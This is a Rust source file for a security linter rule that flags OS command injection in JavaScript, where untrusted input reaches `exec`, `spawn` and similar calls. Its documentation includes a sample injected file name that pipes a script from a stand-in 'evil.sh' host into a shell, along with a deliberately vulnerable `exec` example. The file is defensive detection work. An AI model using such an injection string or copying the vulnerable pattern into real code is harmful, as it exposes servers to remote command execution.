use crate::events::{CallEvent, Cx, Event};
use crate::rules::{Rule, RuleMeta};
use crate::spec::{SinkKind, spec};
use crate::value::{Kind, Sanitized, SourceKind, Value};
use miniguard_report::msg;

crate::declare_rule! {
    /// ## What it finds
    /// An operating-system command built from untrusted input (a cloud function `event`, an HTTP
    /// request's body, query, params or headers) and run through a shell:
    /// `child_process.exec` / `execSync` (also through `require('child_process').exec`, a
    /// destructured `{ exec }` or `util.promisify(exec)`), `shelljs.exec`, `execa.command`, and
    /// `spawn` / `execFile` / `execa` / `cross-spawn` when the program itself is untrusted or the
    /// call passes `shell: true` with untrusted arguments.
    ///
    /// `spawn` / `execFile` with a fixed program and untrusted values as separate arguments (no
    /// shell) are not reported, nor are values quoted with `shell-quote` / `shescape`, numbers
    /// and constants.
    ///
    /// ## Why it matters
    /// The shell interprets `;`, `&&`, `|`, `$( )` and backticks: a file name such as
    /// `a.png; curl evil.sh | sh` runs the attacker's commands with the server's rights, which
    /// means its files, its environment variables (database passwords, cloud keys) and its
    /// network.
    ///
    /// ## Example
    /// ```js
    /// const { exec } = require('child_process')
    /// exports.main = async (event) => {
    ///   exec(`ffmpeg -i /tmp/${event.name} -vf scale=320:-1 /tmp/thumb.jpg`)
    /// }
    /// ```
    ///
    /// ## Fix
    /// Run the program without a shell and pass values as separate arguments:
    /// `execFile('ffmpeg', ['-i', path.join(dir, path.basename(name)), ...])`. Validate values
    /// against a strict pattern (identifiers, numbers) before they reach any command.
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    /// - OWASP OS Command Injection Defense Cheat Sheet
    pub struct CommandInjection {
        code: "I003",
        name: "command-injection",
        category: Injection,
        severity: Critical,
        confidence: High,
        cwe: [78],
        summary: "Operating-system command built from untrusted input",
    }
}

impl Rule for CommandInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, cx: &mut Cx<'_>, event: &Event<'_, '_>) {
        let Event::Call(call) = event else { return };
        let Some(path) = call.path else { return };
        // A command line for a shell, or a program started without one (by the specification).
        let path = path.strip_suffix(".default").unwrap_or(path);
        let (sink, shell_string) =
            if let Some(sink) = spec().sink_by_call(SinkKind::ShellCommand, path) {
                (sink, true)
            } else if let Some(sink) = spec().sink_by_call(SinkKind::Program, path) {
                (sink, false)
            } else {
                return;
            };
        let Some(cmd) = call.arg(sink.first()) else {
            return;
        };
        if let Some(taint) = untrusted(cx, cmd) {
            let what = if shell_string {
                msg!("I003.shell-command")
            } else {
                msg!("I003.program")
            };
            cx.report_flow(&Self::META, call.arg_span(sink.first()), &taint, what)
                .help(msg!("I003.help"));
            return;
        }
        if shell_string || !uses_shell(call) {
            return;
        }
        // `spawn('sh', ['-c', x])` or `spawn(cmd, args, { shell: true })`: arguments reach a shell.
        if let Some(args) = call.arg(1)
            && matches!(args.kind, Kind::Array(_))
            && let Some(taint) = untrusted(cx, args)
        {
            cx.report_flow(
                &Self::META,
                call.arg_span(1),
                &taint,
                msg!("I003.shell-arguments"),
            )
            .help(msg!("I003.help"));
        }
    }
}

fn untrusted(cx: &Cx<'_>, v: &Value<'_>) -> Option<crate::value::Taint> {
    v.attacker_taint(SourceKind::SERVER_INPUT, Sanitized::SHELL)
        .filter(|t| !cx.is_guarded(t))
}

/// Whether a spawn-like call runs through a shell: `shell: true` (or a shell path) in its
/// options, or the program is `sh -c` / `bash -c` / `cmd /c`.
fn uses_shell(call: &CallEvent<'_, '_>) -> bool {
    let program = call.arg(0).and_then(Value::exact_text).unwrap_or("");
    let base = program
        .rsplit('/')
        .next()
        .unwrap_or(program)
        .to_ascii_lowercase();
    if matches!(
        base.as_str(),
        "sh" | "bash" | "zsh" | "dash" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
    ) {
        return true;
    }
    call.args.iter().any(|a| {
        a.field("shell").is_some_and(|s| match s.exact_text() {
            Some(t) => t != "false" && !t.is_empty(),
            None => !s.taint.is_empty(),
        })
    })
}
